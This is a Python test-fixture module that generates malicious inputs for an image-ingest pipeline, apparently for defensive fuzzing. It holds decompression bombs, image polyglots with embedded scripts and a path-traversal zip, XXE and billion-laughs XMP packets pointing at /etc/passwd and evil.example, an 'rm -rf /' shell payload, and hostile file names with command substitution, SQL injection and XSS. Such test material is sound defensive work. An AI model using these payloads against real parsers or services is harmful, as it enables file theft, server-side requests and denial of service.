"""Files that mean harm, by what they try: real pictures damaged, two things in one, bombs, names, XMP."""

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np
from PIL import Image

FACES = Path(__file__).parents[3] / "components" / "ingest" / "files"
SCRIPT = b"<html><script>alert(document.cookie)</script></html>"
LAUGHS = b"".join(
    b'<!ENTITY l%d "%s">' % (depth, b"&l%d;" % (depth - 1) * 10 if depth else b"lol") for depth in range(10)
)
GPS = b"48 deg 8 min secret"


def scene():
    """An upright picture with a face, small enough to be looked at many times."""
    from skimage.data import astronaut

    return Image.fromarray(astronaut()[:256, 96:352]).resize((128, 128))


def encoded(kind, picture=None, **options):
    stream = io.BytesIO()
    (picture or scene()).save(stream, kind, **options)
    return stream.getvalue()


def located():
    """EXIF with a place and a camera."""
    exif = Image.Exif()
    exif[271] = "Camera of a Secret Maker"
    exif.get_ifd(34853)[29] = GPS.decode()  # the tags of a place
    return exif.tobytes()


def real():
    """Real pictures by their kind, with EXIF where the kind has it."""
    told = {kind: encoded(kind, exif=located()) for kind in ("JPEG", "PNG", "WEBP", "TIFF", "AVIF")}
    told["GIF"] = encoded("GIF")
    told["HEIC"] = (FACES / "turned.heic").read_bytes()
    return told


def damaged(cuts, flips):
    """Each kind cut short at ``cuts`` places, and with bits flipped ``flips`` times."""
    for kind, data in real().items():
        yield f"whole.{kind}", data
        chance = random.Random(kind)
        for _ in range(cuts):
            yield "cut.jpg", data[: chance.randrange(1, len(data))]
        for _ in range(flips):
            broken = bytearray(data)
            far = chance.choice((64, 1024, len(data)))  # headers more often than pixels
            for _ in range(chance.choice((1, 4, 32))):
                broken[chance.randrange(min(far, len(data)))] ^= 1 << chance.randrange(8)
            yield "flipped.jpg", bytes(broken)


def two_in_one():
    """Files that are a picture to us, and a page, a script or an archive to another program."""
    pictures = real()
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("../../outside.txt", "x")
    comment = b"\xff\xfe" + struct.pack(">H", 2 + len(SCRIPT)) + SCRIPT
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    for kind, data in pictures.items():
        yield f"page.{kind}.html", data + SCRIPT
        yield f"archive.{kind}.zip", data + archive.getvalue()
    yield "comment.jpg", pictures["JPEG"][:2] + comment + pictures["JPEG"][2:]
    yield "script.gif", b"GIF89a/*" + bytes(100) + b"*/=1;alert(1)//"
    yield "script.bmp", b"BM/*" + bytes(60) + b"*/=1;alert(1)//"
    for name in ("picture.svg", "picture.jpg", "picture.jpg.html"):
        yield name, svg
        yield name, b"<?xml version='1.0'?>" + svg
        yield name, SCRIPT
        yield name, archive.getvalue()
    yield "a.jpg", b"%PDF-1.7\n" + SCRIPT
    yield "a.jpg", b"\x7fELF" + bytes(100)
    yield "a.jpg", b"#!/bin/sh\nrm -rf /\n"
    yield "a.xmp", SCRIPT
    yield "a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n"


def png(width, height, pixels=b"", more=b""):
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def bombs():
    """Small files that would take gigabytes: as pixels, as text, as frames."""
    pictures, many = real(), zlib.compress(bytes(50_000_000), 9)
    for side in (8_400, 12_000, 65_535, 2**24, 2**31 - 1):
        yield "bomb.png", png(side, side, many)
        if side not in (12_000, 65_535, 2**24):  # minutes of a detector, not gigabytes
            yield "line.png", png(side, 1, many)
    for packed in (many, zlib.compress(many)):
        text = b"Comment\0\0" + packed
        ztxt = struct.pack(">I", len(text)) + b"zTXt" + text + struct.pack(">I", zlib.crc32(b"zTXt" + text))
        yield "text.png", png(64, 64, zlib.compress(bytes(64 * 193)), ztxt)
    jpeg = pictures["JPEG"]
    at = jpeg.index(b"\xff\xc0") + 5
    yield "bomb.jpg", jpeg[:at] + struct.pack(">HH", 65_535, 65_535) + jpeg[at + 4 :]
    yield "bomb.jpg", jpeg[:at] + struct.pack(">HH", 0, 0) + jpeg[at + 4 :]
    gif = pictures["GIF"]
    yield "bomb.gif", gif[:6] + struct.pack("<HH", 65_535, 65_535) + gif[10:]
    frames = [Image.new("P", (500, 500), color % 250) for color in range(120)]
    yield "frames.gif", encoded("GIF", frames[0], save_all=True, append_images=frames[1:])
    yield (
        "bomb.bmp",
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 2**30, 2**30, 1, 24, 0, 0, 1, 1, 0, 0),
    )
    yield "bomb.webp", b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff" + bytes(8)
    tiff = pictures["TIFF"]
    for tag in (256, 257):
        entry = struct.pack("<H", tag)
        place = tiff.find(entry, 8)
        if place > 0:
            yield "bomb.tif", tiff[: place + 2] + struct.pack("<HII", 4, 1, 2**31 - 1) + tiff[place + 12 :]
    heic = bytearray(pictures["HEIC"])
    place = heic.find(b"ispe")
    heic[place + 8 : place + 16] = struct.pack(">II", 2**31 - 1, 2**31 - 1)
    yield "bomb.heic", bytes(heic)
    yield "bomb.ppm", b"P6 99999999 99999999 255\n" + bytes(64)
    noise = np.random.default_rng(0).integers(0, 256, (64, 64, 3), np.uint8)
    yield "bomb.jp2", encoded("JPEG2000", Image.fromarray(noise))[:200]


def xmp(about=b"", before=b"", name=b"Eve"):
    return (
        before
        + b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>"
        b"<rdf:Description rdf:about='' xmlns:mwg-rs='http://www.metadataworkinggroup.com/schemas/regions/' "
        b"xmlns:stDim='http://ns.adobe.com/xap/1.0/sType/Dimensions#' xmlns:stArea='http://ns.adobe.com/xmp/sType/Area#'>"
        b"<mwg-rs:Regions rdf:parseType='Resource'><mwg-rs:AppliedToDimensions stDim:w='128' stDim:h='128' "
        b"stDim:unit='pixel'/><mwg-rs:RegionList><rdf:Bag><rdf:li><rdf:Description mwg-rs:Type='Face' mwg-rs:Name='"
        + name
        + b"'><mwg-rs:Area stArea:x='.5' stArea:y='.5' stArea:w='.2' stArea:h='.2' stArea:unit='normalized'/>"
        b"</rdf:Description></rdf:li></rdf:Bag></mwg-rs:RegionList></mwg-rs:Regions>"
        + about
        + b"</rdf:Description></rdf:RDF></x:xmpmeta>"
    )


def packets():
    """XMP that lets its reader load files, ask servers, or take all memory."""
    inside = b"<!DOCTYPE x [%s]>"
    yield xmp(b"<a>&l9;</a>", inside % LAUGHS)
    yield xmp(b"<a>&l9;</a>", inside % LAUGHS, b"&l9;")
    yield xmp(before=inside % b"<!ENTITY e SYSTEM 'file:///etc/passwd'>", name=b"&amp;e;")
    for place in (b"file:///etc/passwd", b"http://127.0.0.1:9/x", b"//evil.example/x", b"php://filter/x"):
        yield xmp(b"<a>&e;</a>", inside % (b"<!ENTITY e SYSTEM '" + place + b"'>"))
        yield xmp(b"", b"<!DOCTYPE x SYSTEM '" + place + b"'>")
        yield xmp(b"", inside % (b"<!ENTITY %% p SYSTEM '" + place + b"'> %%p;"))
    yield xmp(b"<a>" * 100_000)
    yield xmp(b"<a>" * 5_000 + b"</a>" * 5_000)
    yield xmp(b"<a " + b" ".join(b"b%d='x'" % n for n in range(50_000)) + b"/>")
    yield xmp(name=b"x" * 2_000_000)
    yield xmp(name=b"&#0;&#1;&#xD800;")
    yield xmp(name=b"&lt;script&gt;alert(1)&lt;/script&gt;")
    yield xmp(name="\u202e../../x".encode())
    yield xmp().decode().encode("utf-16")
    yield b"<?xml version='1.0' encoding='utf-7'?>" + xmp()
    yield xmp()[:-30]
    yield xmp().replace(b".5", b"nan").replace(b".2", b"inf")
    yield xmp().replace(b".2", b"1e308").replace(b"'128'", b"'-1'")
    yield xmp().replace(b"'128'", b"'99999999999999999999999'")
    yield b"<" + bytes(4096)
    yield b"\xef\xbb\xbf  \n" + xmp()


def in_jpeg(packet):
    """A JPEG with a packet in it, as far as one segment takes."""
    data = encoded("JPEG")
    told = b"http://ns.adobe.com/xap/1.0/\0" + packet
    return data[:2] + b"\xff\xe1" + struct.pack(">H", min(2 + len(told), 65_535)) + told[:65_533] + data[2:]


NAMES = (
    "../../../etc/cron.d/x.jpg", "..\\..\\windows\\x.jpg", "/etc/passwd", "C:\\Windows\\System32\\x.jpg", "\\\\server\\share\\x.jpg",
    "CON", "NUL.jpg", "a\0b.jpg", "\0", "a\nb\r\nContent-Type: text/html.jpg", "\u202egpj.exe", "\u2066x\u2069.jpg", "x" * 1000,
    "ü" * 1000, "👩‍👩‍👧" * 140, "\ud800.jpg", ".", "..", "", " ", ".htaccess", "-rf", "$(reboot).jpg", "`id`.jpg", "'; DROP TABLE web_photo; --",
    '"><script>alert(1)</script>.jpg', "{{7*7}}.jpg", "%s%n.jpg", "%2e%2e%2fx.jpg", "a/b/../../c.jpg", "x.jpg;.html", "\x7f\x1b[2J.jpg",
)  # fmt: skip


def named():
    """A picture of its own under each of the names."""
    for number, name in enumerate(NAMES):
        yield name, encoded("JPEG", Image.new("RGB", (40, 40 + number)))


def short():
    """Beginnings of pictures, and nothing."""
    starts = (b"", b"\xff", b"\xff\xd8", b"\xff\xd8\xff", b"GIF8", b"BM", bytes(16), b"RIFF\0\0\0\0WEBP")
    yield from (("a.jpg", data) for data in starts)
